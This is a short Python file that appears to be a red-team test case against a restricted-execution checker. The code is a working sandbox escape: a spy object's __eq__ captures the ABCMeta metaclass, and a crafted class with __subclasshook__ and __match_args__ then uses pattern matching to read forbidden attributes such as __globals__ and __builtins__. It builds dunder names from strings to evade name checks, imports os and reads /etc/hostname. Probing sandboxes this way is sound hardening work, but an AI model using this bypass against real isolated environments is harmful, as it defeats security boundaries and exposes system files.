# family: red team, round 8 (class_attribute_peer_capture)
# type(x) compared with (or looked up in) an attribute path is judged by the root name only: a class of the
# tool is a fine root, so `type(k) in Holder.peers` hands type(k) to the __eq__ of whatever the class
# attribute holds.
import abc


class Base(abc.ABC):
    pass


class Spy:
    def __init__(self):
        self.seen = []

    def __eq__(self, other):
        self.seen.append(other)
        return False

    __hash__ = None


class Holder:
    peers = [Spy()]


def capture(k):
    type(k) in Holder.peers
    return Holder.peers[0].seen[-1]


def metaclass_of_base():
    return capture(Base)


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, attribute):
    meta = metaclass_of_base()
    probe = meta("Probe", (), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})
    match obj:
        case probe(value):
            return value


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass_of_base().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
